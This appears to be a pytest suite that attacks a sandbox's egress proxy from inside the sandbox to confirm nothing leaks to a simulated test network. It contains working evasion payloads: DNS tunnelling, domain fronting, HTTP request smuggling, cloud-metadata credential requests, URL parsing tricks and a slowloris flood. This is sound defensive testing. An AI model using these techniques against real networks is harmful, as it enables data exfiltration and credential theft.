# SPDX-License-Identifier: Apache-2.0
"""A hostile sandbox in `proxy` network mode tries to get a byte or a DNS query past its egress
policy (issue 14; the design in EGRESS.md).

Every sandbox here runs `--network proxy --allow-host allowed.test` (ports 80 and 443) in the
private test world (tests/egress_world.py): allowed.test is 198.18.0.10, denied.test 198.18.0.11,
and every other address of the world answers too and records what it gets, so "nothing arrived"
is checked at the far end, not guessed from the client. Each test says what it tries; what must
hold is always the same pair: the client fails (no answer of the world's comes back) and the
world's recorders saw nothing from the attempt (`leaks`: everything but the proxy's own lookups
of allowed.test and, where a test says so, legitimate requests to allowed.test).
"""
import json
import os
import re
import subprocess
import time

import pytest

from conftest import needs_root
from egress_world import (ALLOWED, ALLOWED_IP, ALLOWED_IP6, DENIED, DENIED_IP, DENIED_IP6,
                          DNS_IP, DNS_QUERY, DOH_IP, HOST_IP, HOST_PORTS, OTHER_IP, PING, PROXY,
                          PROXY_PORT, PY, TCP_SEND, UDP_SEND, CA_PREP, leaks,
                          proxy_missing, to_allowed, wak, world, only_policy, proxy_dir)  # noqa: F401 (fixtures)

# AKEG_TRY_FULL=1 runs the attacks against today's unfiltered `--network` instead (no policy):
# then they must FAIL, which shows each one detects the leak it is about.
TRY_FULL = os.environ.get("AKEG_TRY_FULL") == "1"
MISSING = [] if TRY_FULL else proxy_missing()
pytestmark = [needs_root, pytest.mark.egress,
              pytest.mark.skipif(bool(MISSING), reason="issue 14's proxy mode is not in this "
                                 "build: missing " + "; ".join(MISSING))]

WORLD = '"world": true'  # in every answer of the world's HTTP servers

# TLS with a chosen SNI, directly (transparent capture) or through an explicit CONNECT
TLS_SNI = r"""
import socket, ssl, sys
host, port, sni, via = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
try:
    if via == "direct":
        s = socket.create_connection((host, port), 4)
    else:
        s = socket.create_connection(("127.0.0.1", 15001), 4)
        target = via.split("=", 1)[1] if "=" in via else f"{host}:{port}"
        s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        head = b""
        while b"\r\n\r\n" not in head:
            d = s.recv(4096)
            if not d:
                break
            head += d
        print("connect-reply", head.split(b"\r\n")[0].decode())
        if b" 200" not in head.split(b"\r\n")[0]:
            print("body", head.split(b"\r\n\r\n", 1)[-1][:300])
            sys.exit(0)
    s.settimeout(4)
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname=sni)
    t.sendall(f"GET /fronted HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n".encode())
    print("response", t.recv(4096)[:300])
except (OSError, ssl.SSLError) as e:
    print("error", e.__class__.__name__, e)
"""


# For AKEG_TRY_FULL: what a proxy that checks nothing would do (CONNECT and absolute URIs to
# anywhere, DNS forwarded as asked).
NAIVE_PROXY = r"""
import socket, threading
def pipe(a, b):
    try:
        while True:
            d = a.recv(65536)
            if not d:
                break
            b.sendall(d)
    except OSError:
        pass
    for s in (a, b):
        try:
            s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
def serve(c):
    buf = b""
    while b"\r\n\r\n" not in buf:
        d = c.recv(65536)
        if not d:
            c.sendall(b"up")
            return
        buf += d
    line = buf.split(b"\r\n")[0].decode("latin-1").split()
    if line[0] == "CONNECT":
        host, _, port = line[1].rpartition(":")
        u = socket.create_connection((host.strip("[]"), int(port)), 5)
        c.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        buf = buf.split(b"\r\n\r\n", 1)[1]
    else:
        hostport = line[1].split("/")[2].split("@")[-1]
        host, _, port = hostport.partition(":")
        u = socket.create_connection((host, int(port or 80)), 5)
    u.sendall(buf)
    threading.Thread(target=pipe, args=(u, c), daemon=True).start()
    pipe(c, u)
def dns():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", 53))
    while True:
        q, peer = s.recvfrom(4096)
        f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        f.settimeout(2)
        try:
            f.sendto(q, ("198.18.0.53", 53))
            s.sendto(f.recv(4096), peer)
        except OSError:
            pass
threading.Thread(target=dns, daemon=True).start()
l = socket.socket()
l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", 15001))
l.listen(512)
while True:
    c, _ = l.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"""


class Box:
    """A proxy-mode sandbox of the test's and the commands an attack runs in it."""

    def __init__(self, ak, world, name):
        self.ak, self.world, self.name = ak, world, name

    def py(self, code, *args, timeout=60, env=()):
        e = []
        for kv in env:
            e += ["-e", kv]
        return self.ak("exec", *e, self.name, "--", PY, "-c", code, *args, timeout=timeout)

    def sh(self, script, timeout=60, env=()):
        e = []
        for kv in env:
            e += ["-e", kv]
        return self.ak("exec", *e, self.name, "--", "sh", "-c", script, timeout=timeout)

    def attack(self, code, *args, ok=None, **kw):
        """Runs the attack; returns (result, stdout, leaks)."""
        m = self.m = self.world.mark()
        res = self.py(code, *args, **kw)
        return res, res.stdout, leaks(self.world, m, ok=ok)

    def send(self, host, port, payload, ok=None):
        return self.attack(TCP_SEND, host, str(port), payload, ok=ok)


def make_box(ak, world, name, *opts):
    """A proxy-mode sandbox whose policy is exactly: allow the --allow-host patterns among
    opts, deny the rest (--allow-host alone would add to the built-in list)."""
    opts = list(opts)
    allow = [opts[i + 1] for i, o in enumerate(opts) if o == "--allow-host"]
    if TRY_FULL:
        opts = [o for i, o in enumerate(opts)
                if o != "--allow-host" and (i == 0 or opts[i - 1] != "--allow-host")]
        res = ak("create", name, "--network", *opts)
    else:
        res = ak("create", name, "--network=proxy", *opts)
    if res.rc != 0 and re.search(r"unknown|unsupported|not supported|invalid", res.stderr, re.I):
        pytest.skip(f"proxy mode refused: {res.stderr.strip()[:200]}")
    assert res.rc == 0, res
    if not TRY_FULL:
        only_policy(ak, name, [{"action": "allow", "host": h} for h in allow],
                    ak.data_dir.parent)
    else:  # a naive allow-all proxy and DNS forwarder where ours listen
        assert ak("exec", "-d", name, "--", PY, "-c", NAIVE_PROXY).rc == 0
        deadline = time.time() + 10
        while time.time() < deadline and "up" not in ak(
                "exec", name, "--", PY, "-c", TCP_SEND, PROXY, str(PROXY_PORT), "").stdout:
            time.sleep(0.2)
    return Box(ak, world, name)


@pytest.fixture
def box(wak, world):
    """A sandbox allowed allowed.test (80, 443) and nothing else."""
    return make_box(wak, world, "box", "--allow-host", ALLOWED)


def refused(out):
    """The client got nothing of the world's: an error, a reset, an empty read or the proxy's
    own refusal (403 and the like)."""
    return WORLD not in out and "reply" not in out.split()[:1]


def http(host, path="/", extra=""):
    return f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\n{extra}Connection: close\\r\\n\\r\\n"


# ---------------------------------------------------------------- direct addresses

@pytest.mark.parametrize("ip,port", [(DENIED_IP, 80), (DENIED_IP, 7777), (ALLOWED_IP, 7777),
                                     (ALLOWED_IP, 22), (OTHER_IP, 6379), ("203.0.113.9", 443)])
def test_direct_connect_to_an_ip(box, ip, port):
    """connect() straight to an address of the world on a port, with an HTTP request naming
    the address: the denied host's, the allowed host's on ports the policy does not give, an
    unknown address: the capture ends it at the proxy, which refuses (no name, no rule)."""
    res, out, leaked = box.send(ip, port, http(ip))
    assert refused(out) and not leaked, (out, leaked)


def test_allowed_ip_with_a_denied_host_header(box):
    """Transparent HTTP to allowed.test's own address carrying `Host: denied.test`: the name
    decides, so it is refused, and no request naming denied.test reaches any server."""
    res, out, leaked = box.send(ALLOWED_IP, 80, http(DENIED), ok=to_allowed)
    assert refused(out) and not leaked, (out, leaked)
    assert not [e for e in box.world.events(box.m, srv="http") if e.get("host") == DENIED]


def test_denied_ip_with_the_allowed_host_header(box):
    """Transparent HTTP to denied.test's address with `Host: allowed.test`: the proxy must not
    trust the header to reach the address the sandbox chose; nothing reaches 198.18.0.11."""
    res, out, leaked = box.send(DENIED_IP, 80, http(ALLOWED), ok=to_allowed)
    assert not leaked, leaked
    assert DENIED_IP not in out


def test_denied_ip_with_the_allowed_sni(box):
    """Transparent TLS to denied.test's address whose ClientHello names allowed.test (SNI):
    nothing reaches 198.18.0.11 (at most the real allowed.test answers)."""
    res, out, leaked = box.attack(TLS_SNI, DENIED_IP, "443", ALLOWED, "direct", ok=to_allowed)
    assert not leaked, leaked
    assert DENIED_IP not in out


def test_allowed_ip_with_a_denied_sni(box):
    """Transparent TLS to allowed.test's address with SNI denied.test (Host/SNI mismatch the
    other way): refused; no handshake naming denied.test reaches any server."""
    res, out, leaked = box.attack(TLS_SNI, ALLOWED_IP, "443", DENIED, "direct", ok=to_allowed)
    assert refused(out) and not leaked, (out, leaked)


@pytest.mark.parametrize("addr", [ALLOWED_IP6, DENIED_IP6, "::ffff:198.18.0.11"])
def test_ipv6_literal(box, addr):
    """TCP to an IPv6 address of the world: no route, nothing arrives. A v4-mapped address
    (::ffff:198.18.0.11, an AF_INET6 socket speaking IPv4) is captured like IPv4: its request
    naming allowed.test goes to allowed.test at most, never to 198.18.0.11."""
    res, out, leaked = box.send(addr, 80, http(ALLOWED), ok=to_allowed)
    assert not leaked, (out, leaked)
    if not addr.startswith("::ffff:"):
        assert refused(out), out
    assert DENIED_IP not in out


def test_aaaa_answers_lead_nowhere(box):
    """Looking up allowed.test's AAAA and connecting to whatever comes back over IPv6: the
    resolver gives no IPv6 address (or one that leads nowhere); nothing arrives over IPv6."""
    code = ("import socket\ntry:\n a=socket.getaddrinfo('allowed.test',80,socket.AF_INET6,"
            "socket.SOCK_STREAM)\nexcept OSError as e:\n print('noaddr');raise SystemExit\n"
            "for *_,sa in a:\n try:\n  socket.create_connection(sa[:2],3).sendall(b'x')\n"
            "  print('connected',sa)\n except OSError as e:\n  print('error',e)\n")
    res, out, leaked = box.attack(code)
    assert "connected" not in out and not leaked, (out, leaked)
    assert not [e for e in box.world.events(box.m, srv="wire") if ":" in e["dst"]
                and not e["dst"].startswith("ff")]


# ---------------------------------------------------------------- UDP, ICMP, raw

@pytest.mark.parametrize("ip,port", [(ALLOWED_IP, 9999), (ALLOWED_IP, 443), (DENIED_IP, 7),
                                     (OTHER_IP, 123)])
def test_udp_to_the_world(box, ip, port):
    """UDP datagrams (echo, QUIC's 443, NTP) to the world: rejected at once; none arrives."""
    res, out, leaked = box.attack(UDP_SEND, ip, str(port))
    assert not out.startswith("reply") and not leaked, (out, leaked)


@pytest.mark.parametrize("ip", [ALLOWED_IP, DENIED_IP, "192.0.2.1"])
def test_icmp_echo(box, ip):
    """ping (a ping socket, else a raw one) to the world: no reply, no echo request arrives."""
    res, out, leaked = box.attack(PING, ip)
    assert out.strip() != "reply" and not leaked, (out, leaked)


RAW_UDP = r"""
import socket, struct, sys
dst = sys.argv[1]
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
except OSError as e:
    print("socket", e.__class__.__name__); sys.exit(0)
payload = b"akeg-raw"
udp = struct.pack(">HHHH", 40000, 9999, 8 + len(payload), 0) + payload
ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                 socket.inet_aton("10.0.0.1"), socket.inet_aton(dst))
try:
    s.sendto(ip + udp, (dst, 0))
    print("sent")
except OSError as e:
    print("send", e.__class__.__name__)
"""


def test_raw_ip_socket(box):
    """A raw IP socket sends a hand-made UDP packet (spoofed source) to the world: the socket
    is refused, or the packet goes nowhere."""
    res, out, leaked = box.attack(RAW_UDP, ALLOWED_IP)
    assert not leaked, (out, leaked)


PACKET = r"""
import socket, sys
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
except OSError as e:
    print("socket", e.__class__.__name__); sys.exit(0)
import json
import os
for name in os.listdir("/sys/class/net"):
    try:
        s.bind((name, 0))
        s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x00" + b"\x45" + b"\0" * 40)
        print("sent on", name)
    except OSError as e:
        print(name, e.__class__.__name__)
"""


def test_packet_socket(box):
    """AF_PACKET (a whole frame on any interface the sandbox sees): refused, or nothing
    arrives."""
    res, out, leaked = box.attack(PACKET)
    assert not leaked, (out, leaked)


def test_vsock(box):
    """AF_VSOCK to the host (CID 2) and the hypervisor (CID 0): refused."""
    code = ("import socket\ntry:\n s=socket.socket(40,1)\n s.settimeout(2)\n"
            " s.connect((2,1234))\n print('connected')\nexcept OSError as e:\n"
            " print('error',e.__class__.__name__)")
    res, out, leaked = box.attack(code)
    assert "connected" not in out and not leaked, (out, leaked)


def test_abstract_unix_socket_of_the_host(box):
    """connect() to an abstract unix socket the host listens on (abstract names belong to the
    network namespace): unreachable from the sandbox's own namespace."""
    code = ("import socket,sys\ns=socket.socket(socket.AF_UNIX)\ntry:\n"
            " s.connect('\\0'+sys.argv[1]); print('connected', s.recv(100))\n"
            "except OSError as e:\n print('error', e.__class__.__name__)")
    res, out, leaked = box.attack(code, box.world.abstract)
    assert "connected" not in out and not leaked, (out, leaked)


# ---------------------------------------------------------------- DNS

@pytest.mark.parametrize("server,proto", [("127.0.0.1", "udp"), (DNS_IP, "udp"), (DNS_IP, "tcp"),
                                          ("198.18.0.99", "udp"), ("9.9.9.9", "tcp")])
def test_dns_for_a_denied_name(box, server, proto):
    """A query for denied.test to the sandbox's resolver, to the world's real resolver by
    address, to other servers, over UDP and TCP: no address comes back and the query never
    reaches any DNS server of the world."""
    res, out, leaked = box.attack(DNS_QUERY, server, "53", DENIED, "1", proto)
    assert out.split()[:4] != ["rcode", "0", "answers", "1"] and not leaked, (out, leaked)


def test_dns_to_the_machines_real_resolver(box):
    """A query sent to the machine's own resolver's address (an outside server): it never
    arrives anywhere (in the world it would be recorded)."""
    if not box.world.real_resolver or ":" in box.world.real_resolver:
        pytest.skip("the machine names no IPv4 resolver")
    res, out, leaked = box.attack(DNS_QUERY, box.world.real_resolver, "53", DENIED, "1", "udp")
    assert not leaked, (out, leaked)


def test_getaddrinfo_of_a_denied_name(box):
    """The libc resolver (getent) for denied.test: no address, no query upstream."""
    m = box.world.mark()
    res = box.sh(f"getent ahosts {DENIED}; echo rc=$?")
    assert DENIED_IP not in res.stdout and not leaks(box.world, m), res


def test_dns_tunnel_long_labels(box):
    """Exfiltration in long labels (63-byte labels, a 250-byte name) under denied.test and
    under allowed.test: none of the queries reaches the world."""
    secret = "a" * 63
    names = [f"{secret}.{secret}.{secret}.{DENIED}", f"{secret}.{secret}.{secret}.{ALLOWED}"]
    m = box.world.mark()
    for name in names:
        res = box.py(DNS_QUERY, "127.0.0.1", "53", name, "1", "udp")
        assert res.stdout.split()[:4] != ["rcode", "0", "answers", "1"], res
    assert not leaks(box.world, m)


@pytest.mark.parametrize("qtype", [16, 255, 15, 33, 10, 5])
def test_dns_other_record_types(box, qtype):
    """TXT (the classic tunnel), ANY, MX, SRV, NULL and CNAME queries, even for the allowed
    name: refused by the sandbox's resolver and never asked upstream."""
    res, out, leaked = box.attack(DNS_QUERY, "127.0.0.1", "53", ALLOWED, str(qtype), "udp")
    assert "answers 0" in out or "rcode 0" not in out, out
    assert not leaked, leaked


def test_dns_tunnel_many_subdomains(box):
    """Many queries for distinct subdomains of the allowed zone (x0001.allowed.test ...): the
    policy allows allowed.test exactly, so none of them reaches the world's resolver."""
    m = box.world.mark()
    script = "; ".join(f"{PY} -c \"$Q\" 127.0.0.1 53 x{i:04x}.{ALLOWED} 1 udp"
                       for i in range(40))
    res = box.sh(script, env=["Q=" + DNS_QUERY], timeout=120)
    assert "answers 1" not in res.stdout, res
    assert not leaks(box.world, m)


def test_doh_to_the_worlds_resolver(box):
    """DNS over HTTPS to a resolver of the world (by address, and by name through the proxy
    variables): refused; no DoH query arrives."""
    m = box.world.mark()
    res = box.sh(CA_PREP + f"curl -sS --max-time 5 --doh-url https://{DOH_IP}/dns-query "
                 f"http://{DENIED}/; curl -sS --max-time 5 -H 'accept: application/dns-message' "
                 f"'https://doh.test/dns-query?dns=q80BAAABAAAAAAAABmRlbmllZAR0ZXN0AAABAAE'",
                 env=[f"AKEG_CA={box.world.ca.read_text()}", "CURL_CA_BUNDLE=/tmp/ca.pem"])
    assert WORLD not in res.stdout and not leaks(box.world, m), res


@pytest.mark.parametrize("host", [DOH_IP, ALLOWED_IP])
def test_dns_over_tls(box, host):
    """DNS over TLS (853) to a resolver of the world and to the allowed host's address on 853:
    no TLS handshake arrives."""
    res, out, leaked = box.attack(TLS_SNI, host, "853", "dot.test", "direct")
    assert refused(out) and not leaked, (out, leaked)


# ---------------------------------------------------------------- the explicit proxy

def test_connect_to_an_ip_literal(box):
    """CONNECT 198.18.0.11:443 (an address, no name): 403; nothing arrives."""
    res, out, leaked = box.attack(TLS_SNI, DENIED_IP, "443", DENIED, "connect")
    assert "connect-reply" in out and " 200" not in out.split("\n")[0], out
    assert not leaked, leaked


def test_connect_ipv6_literal(box):
    """CONNECT [2001:db8:19::10]:443: 403; nothing arrives over IPv6."""
    res, out, leaked = box.attack(TLS_SNI, ALLOWED_IP6, "443", ALLOWED,
                                  f"connect=[{ALLOWED_IP6}]:443")
    assert " 200" not in out.split("\n")[0] and not leaked, (out, leaked)


def test_connect_allowed_then_denied_sni(box):
    """Domain fronting: CONNECT allowed.test:443, then a ClientHello naming denied.test inside
    the tunnel: the tunnel is cut; no server sees a ClientHello for denied.test (the proxy may
    have opened its connection to allowed.test already: one that carries no handshake)."""
    res, out, leaked = box.attack(TLS_SNI, ALLOWED, "443", DENIED, "connect",
                                  ok=lambda e: to_allowed(e) or (
                                      e["srv"] == "tls" and e["dst"] == ALLOWED_IP
                                      and e.get("sni") is None and "error" in e))
    assert not leaked, leaked
    assert not [e for e in box.world.events(box.m, srv="tls") if e.get("sni") == DENIED]
    assert WORLD not in out, out


@pytest.mark.parametrize("port", [22, 8443, 853, 7777])
def test_connect_to_a_port_the_policy_does_not_give(box, port):
    """CONNECT allowed.test:PORT where the rule gives only 80 and 443: 403; nothing arrives."""
    res, out, leaked = box.attack(TLS_SNI, ALLOWED, str(port), ALLOWED, "connect")
    assert " 200" not in out.split("\n")[0] and not leaked, (out, leaked)


def test_absolute_uri_for_a_denied_host_on_an_allowed_connection(box):
    """On one kept-alive connection to the proxy: `GET http://allowed.test/` (allowed), then
    `GET http://denied.test/`: the second is refused; no request for denied.test arrives."""
    payload = (f"GET http://{ALLOWED}/one HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n"
               f"GET http://{DENIED}/two HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n"
               "Connection: close\\r\\n\\r\\n")
    res, out, leaked = box.send(PROXY, PROXY_PORT, payload, ok=to_allowed)
    assert not leaked, (out, leaked)
    assert "/two" not in out and out.count(WORLD) <= 1, out


@pytest.mark.parametrize("url", [f"http://{ALLOWED}@{DENIED}/", f"http://{ALLOWED}:80@{DENIED}/",
                                 f"http://{DENIED}#@{ALLOWED}/", f"http://{DENIED}\\\\@{ALLOWED}/"])
def test_userinfo_tricks(box, url):
    """Absolute URIs whose userinfo or fragment names the allowed host while the authority is
    denied.test (or parsers disagree which is which): nothing reaches denied.test."""
    payload = f"GET {url} HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\nConnection: close\\r\\n\\r\\n"
    res, out, leaked = box.send(PROXY, PROXY_PORT, payload, ok=to_allowed)
    assert not leaked, (out, leaked)
    assert not [e for e in box.world.events(box.m, srv="http") if e.get("dst") == DENIED_IP]


def test_userinfo_with_curl(box):
    """curl through the proxy variables to http://allowed.test@denied.test/: refused."""
    m = box.world.mark()
    res = box.sh(f"curl -sS --max-time 5 http://{ALLOWED}@{DENIED}/")
    assert WORLD not in res.stdout and not leaks(box.world, m), res


def test_keepalive_switching_host_mid_connection(box):
    """Transparent HTTP to allowed.test's address: the first request names allowed.test, the
    second on the same connection names denied.test: the second is refused and never arrives."""
    payload = (f"GET /one HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n\\r\\n"
               f"GET /two HTTP/1.1\\r\\nHost: {DENIED}\\r\\nConnection: close\\r\\n\\r\\n")
    res, out, leaked = box.send(ALLOWED_IP, 80, payload, ok=to_allowed)
    assert not leaked and "/two" not in out, (out, leaked)
    assert not [e for e in box.world.events(box.m, srv="http") if e.get("host") == DENIED]


def test_proxy_variables_unset(box):
    """A client that ignores the proxy variables (all unset, curl --noproxy '*'): the capture
    still applies: denied.test is refused; allowed.test still works (through the proxy)."""
    m = box.world.mark()
    unset = "unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy; "
    res = box.sh(unset + f"curl -sS --noproxy '*' --max-time 5 http://{DENIED}/x; echo; "
                 f"curl -sS --noproxy '*' --max-time 5 http://{ALLOWED}/y")
    assert res.stdout.count(WORLD) == 1 and '"/y"' in res.stdout, res
    assert not leaks(box.world, m, ok=to_allowed)


def test_socks5_to_the_proxy_port(box):
    """A SOCKS5 greeting and CONNECT denied.test:80 to the proxy's port: not served; nothing
    arrives."""
    host = DENIED.encode()
    req = "\\x05\\x01\\x00" + "\\x05\\x01\\x00\\x03" + f"\\x{len(host):02x}" + DENIED + "\\x00\\x50"
    res, out, leaked = box.send(PROXY, PROXY_PORT, req + http(DENIED))
    assert WORLD not in out and not leaked, (out, leaked)


def test_socks_listener_of_the_world(box):
    """A SOCKS5 greeting to the world's SOCKS port on the allowed host's address: refused."""
    res, out, leaked = box.send(ALLOWED_IP, 1080, "\\x05\\x01\\x00")
    assert "x05" not in out and not leaked, (out, leaked)


# ---------------------------------------------------------------- special addresses

@pytest.mark.parametrize("via", ["direct", "proxy", "name"])
def test_cloud_metadata(box, via):
    """169.254.169.254 (cloud metadata): directly, as an absolute URI to the proxy, and
    through a name that resolves to it: refused; nothing arrives."""
    req = "/latest/meta-data/iam/security-credentials/"
    if via == "direct":
        res, out, leaked = box.send("169.254.169.254", 80, http("169.254.169.254", req))
    elif via == "proxy":
        res, out, leaked = box.send(PROXY, PROXY_PORT, http("169.254.169.254",
                                                             "http://169.254.169.254" + req))
    else:
        res, out, leaked = box.send(PROXY, PROXY_PORT, http("metadata.test",
                                                             "http://metadata.test" + req))
    assert refused(out) and not leaked, (out, leaked)


@pytest.mark.parametrize("name", ["loop.test", "private.test", "hostaddr.test", "localhost"])
def test_names_that_resolve_into_refused_ranges(box, name):
    """Names resolving to loopback, a private range, the host's own address: refused by the
    proxy even though a name, not an address, was asked (DNS rebinding's effect)."""
    res, out, leaked = box.send(PROXY, PROXY_PORT,
                                http(f"{name}:{HOST_PORTS[0]}", f"http://{name}:{HOST_PORTS[0]}/"))
    assert refused(out) and "host-" not in out and not leaked, (out, leaked)


@pytest.mark.parametrize("addr", ["127.0.0.1", HOST_IP, "127.0.0.2"])
def test_host_loopback_services(box, addr):
    """The host's services on 127.0.0.1 and its own address (198.18.0.1): the sandbox's
    127.0.0.1 is its own, its 198.18.0.1 a captured address the proxy refuses; CONNECT to them
    is refused too. Nothing reaches the host's recorders."""
    res, out, leaked = box.send(addr, HOST_PORTS[0], "x")
    assert "host-" not in out and not leaked, (out, leaked)
    res, out, leaked = box.attack(TLS_SNI, addr, str(HOST_PORTS[1]), ALLOWED, "connect")
    assert " 200" not in out.split("\n")[0] and not leaked, (out, leaked)


def test_own_loopback_stays_its_own(box):
    """A server the sandbox starts on its own 127.0.0.1 (not the proxy's reserved ports)
    works, and nothing of it goes through the proxy or reaches the world."""
    code = ("import socket,threading\ns=socket.socket();s.bind(('127.0.0.1',9000));s.listen(1)\n"
            "threading.Thread(target=lambda:(lambda c:(c[0].sendall(b'own-lo'),c[0].close()))"
            "(s.accept()),daemon=True).start()\n"
            "print(socket.create_connection(('127.0.0.1',9000),3).recv(10).decode())")
    res, out, leaked = box.attack(code)
    assert out.strip() == "own-lo" and not leaked, (out, leaked)


def test_another_sandbox(wak, world, box):
    """A second sandbox (network full, port 8000 published on the host's 127.0.0.1) serves a
    secret; the proxy-mode sandbox tries it on its 127.0.0.1, on the host's address, and by
    CONNECT: the secret never comes back and the other sandbox never sees a connection."""
    import socket as pysock
    with pysock.socket() as s:  # a port free in the host-ns is not knowable from here: pick
        s.bind(("127.0.0.1", 0))  # one unlikely to clash there too
        port = s.getsockname()[1]
    res = wak("create", "other", "--network" if TRY_FULL else "--network=full", "-p",
              f"{port}:8000")
    assert res.rc == 0, res
    srv = ("import socket\ns=socket.socket();s.setsockopt(1,2,1);s.bind(('0.0.0.0',8000));"
           "s.listen(8)\nwhile True:\n c,a=s.accept();open('/tmp/seen','a').write(str(a)+'\\n');"
           "c.sendall(b'other-secret');c.close()\n")
    assert wak("exec", "-d", "other", "--", PY, "-c", srv).rc == 0
    deadline = time.time() + 10
    while time.time() < deadline:  # the published port answers on the host's loopback
        if b"other-secret" in world.host(PY, "-c", TCP_SEND, "127.0.0.1", port, "p").stdout:
            break
        time.sleep(0.2)
    wak("exec", "other", "--", "rm", "-f", "/tmp/seen")
    for addr in ("127.0.0.1", HOST_IP):
        res, out, leaked = box.send(addr, port, "x")
        assert "other-secret" not in out and not leaked, (addr, out, leaked)
    res, out, leaked = box.attack(TLS_SNI, "127.0.0.1", str(port), ALLOWED, "connect")
    assert "other-secret" not in out and not leaked, (out, leaked)
    seen = wak("exec", "other", "--", "cat", "/tmp/seen")
    assert seen.stdout == "", seen


# ---------------------------------------------------------------- names

@pytest.mark.parametrize("name", ["DENIED.TEST", "denied.test.", "Denied.Test.", "DENIED.test.."])
def test_case_and_trailing_dot_of_a_denied_name(box, name):
    """Case and trailing dots on the denied name (CONNECT and Host): still denied."""
    res, out, leaked = box.attack(TLS_SNI, name, "443", name, "connect")
    assert " 200" not in out.split("\n")[0] and not leaked, (out, leaked)
    res, out, leaked = box.send(PROXY, PROXY_PORT, http(name, f"http://{name}/"))
    assert refused(out) and not leaked, (out, leaked)


@pytest.mark.parametrize("name", ["xn--llowed-9of.test", "xn--llowed-2nf.test", "allowedtest.test",
                                  "allowed.test.denied.test", "\u0430llowed.test"])
def test_lookalike_names(box, name):
    """IDN lookalikes of allowed.test (Cyrillic and Latin-alpha a, in punycode and raw UTF-8),
    allowed.test as a prefix of another name: denied; nothing arrives."""
    res, out, leaked = box.send(PROXY, PROXY_PORT, http(name, f"http://{name}/"))
    assert refused(out) and not leaked, (out, leaked)


def test_a_glob_does_not_match_a_suffix_trick(wak, world):
    """With `*.allowed.test` allowed (which also matches allowed.test): allowed.evil.test,
    allowed.test.denied.test and allowedtest.test are denied; www.allowed.test works."""
    g = make_box(wak, world, "glob", "--allow-host", "*." + ALLOWED)
    for name in ("allowed.evil.test", "allowed.test.denied.test", "allowedtest.test"):
        res, out, leaked = g.send(PROXY, PROXY_PORT, http(name, f"http://{name}/"))
        assert refused(out) and not leaked, (name, out, leaked)
    res, out, leaked = g.send(PROXY, PROXY_PORT, http("www." + ALLOWED, f"http://www.{ALLOWED}/"),
                              ok=lambda e: e.get("host") == "www." + ALLOWED
                              or (e["srv"] == "wire" and e.get("dst") == ALLOWED_IP)
                              or (e["srv"] == "dns" and e.get("qname") == "www." + ALLOWED
                                  and e.get("qtype") in (1, 28)))
    assert WORLD in out and not leaked, (out, leaked)


# ---------------------------------------------------------------- HTTP parsing

def test_huge_headers(box):
    """A 256 KiB header before `Host: denied.test` on a transparent connection to the allowed
    address (a parser that stops early would take the address's name): refused; no request
    for denied.test arrives; the proxy still serves the next client."""
    payload = ("GET / HTTP/1.1\\r\\n" + "X-Pad: @PAD@\\r\\n"
               f"Host: {DENIED}\\r\\nConnection: close\\r\\n\\r\\n")
    res, out, leaked = box.send(ALLOWED_IP, 80, payload, ok=to_allowed)
    assert not leaked and WORLD not in out, (out[:300], leaked)
    res = box.sh(f"curl -sS --max-time 5 http://{ALLOWED}/after")
    assert '"/after"' in res.stdout, res


@pytest.mark.parametrize("variant", ["cl-te", "te-cl", "te-te"])
def test_request_smuggling(box, variant):
    """Content-Length and Transfer-Encoding together (and an obfuscated second TE) smuggling
    a request for denied.test inside an allowed one: no request for denied.test reaches any
    server."""
    smuggled = f"GET /smuggled HTTP/1.1\\r\\nHost: {DENIED}\\r\\n\\r\\n"
    body = "0\\r\\n\\r\\n" + smuggled
    n = len(body.encode().decode("unicode_escape"))
    if variant == "cl-te":
        hdr = f"Content-Length: {n}\\r\\nTransfer-Encoding: chunked\\r\\n"
    elif variant == "te-cl":
        hdr = "Transfer-Encoding: chunked\\r\\nContent-Length: 3\\r\\n"
    else:
        hdr = "Transfer-Encoding: chunked\\r\\nTransfer-Encoding : xchunked\\r\\n"
    payload = f"POST / HTTP/1.1\\r\\nHost: {ALLOWED}\\r\\n{hdr}\\r\\n{body}"
    res, out, leaked = box.send(ALLOWED_IP, 80, payload, ok=to_allowed)
    assert not leaked, (out, leaked)
    bad = [e for e in box.world.events(box.m, srv="http")
           if e.get("host") == DENIED or "/smuggled" in (e.get("target") or "")]
    assert not bad, bad


@pytest.mark.parametrize("ip", [DENIED_IP, OTHER_IP])
def test_http10_without_host(box, ip):
    """HTTP/1.0 without a Host header to a denied address (no name to judge, only the
    address): refused; nothing arrives."""
    res, out, leaked = box.send(ip, 80, "GET / HTTP/1.0\\r\\n\\r\\n")
    assert refused(out) and not leaked, (out, leaked)


# ---------------------------------------------------------------- the proxy itself

def test_slowloris_against_the_proxy(box):
    """200 connections to the proxy that send a header byte a second: the proxy keeps serving
    another client of the same sandbox (an allowed request answers within seconds)."""
    loris = ("import socket,time\nss=[]\nfor i in range(200):\n"
             " try:\n  s=socket.create_connection(('127.0.0.1',15001),3)\n"
             "  s.sendall(b'GET http://allowed.test/ HTTP/1.1\\r\\n');ss.append(s)\n"
             " except OSError: break\nprint('open',len(ss),flush=True)\n"
